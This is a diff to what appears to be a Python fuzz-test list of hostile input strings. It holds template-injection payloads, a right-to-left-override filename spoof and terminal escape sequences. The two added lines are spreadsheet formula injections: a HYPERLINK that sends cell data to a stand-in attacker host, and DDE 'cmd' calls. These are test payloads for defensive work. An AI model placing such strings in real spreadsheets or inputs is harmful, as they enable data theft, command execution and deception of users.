@@ -24,6 +24,8 @@ TEXTS = [t.encode() if isinstance(t, str) else t for t in [
     f"${{{OWN}}} {{{{constructor.constructor('{OWN}')()}}}} <%= 1 %>",
     "invoice\u202egpj.exe \u2066\u2067\u200b\u2028\ufeff\ufffe",
     b"\x1b]0;owned\x07\x1b[31m\x9b1m \x00\x01\x08\x7f\xff\xfe\xc0\xaf\xed\xa0\x80",
+    "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")|'/C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0\t,\";+1",
     "W" * 900,
 ]]
 
